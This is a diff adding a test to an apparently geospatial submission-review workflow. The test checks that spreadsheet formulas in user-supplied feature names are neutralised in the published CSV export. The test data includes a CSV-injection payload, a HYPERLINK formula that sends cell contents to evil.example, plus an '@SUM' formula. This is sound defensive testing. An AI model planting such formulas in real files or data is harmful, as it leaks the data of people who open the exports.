@@ -550,4 +550,39 @@ describe('the review loop: submit, request changes, new version, approve, publis
       { n: 0 },
     ]);
   });
+
+  it("a formula in a submitter's feature name reaches the public layer CSV neutralised (issue 22 §5)", async () => {
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
+    const d = await newDraft('Formula UDA');
+    const [f] = udaFeatures(1, 200);
+    const up = await upload(
+      d.submissionID,
+      'uda.geojson',
+      geojson([{ ...f!, properties: { ...f!.properties, name: formula, town: '@SUM(A1)' } }]),
+    );
+    expect(up.status).toBe(200);
+    await callApi(submission, {
+      method: 'PUT',
+      headers: planner,
+      body: { submissionID: d.submissionID, submit: true },
+    });
+    for (const s of ['in-review', 'approved', 'published']) {
+      const res = await callApi(status, {
+        method: 'POST',
+        headers: reviewer,
+        body: { submissionID: d.submissionID, status: s },
+      });
+      expect(res.status).toBe(201);
+    }
+    const csv = await callApi(features, {
+      params: { layerKey: 'urban-development-areas' },
+      query: { format: 'csv', q: 'HYPERLINK' },
+    });
+    expect(csv.status).toBe(200);
+    const row = csv.text.split('\n').find((l) => l.includes('HYPERLINK'));
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")"`);
+    expect(csv.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    // Back as it was for the other tests.
+    await callApi(status, { method: 'PUT', headers: reviewer, body: { submissionID: d.submissionID } });
+  });
 });
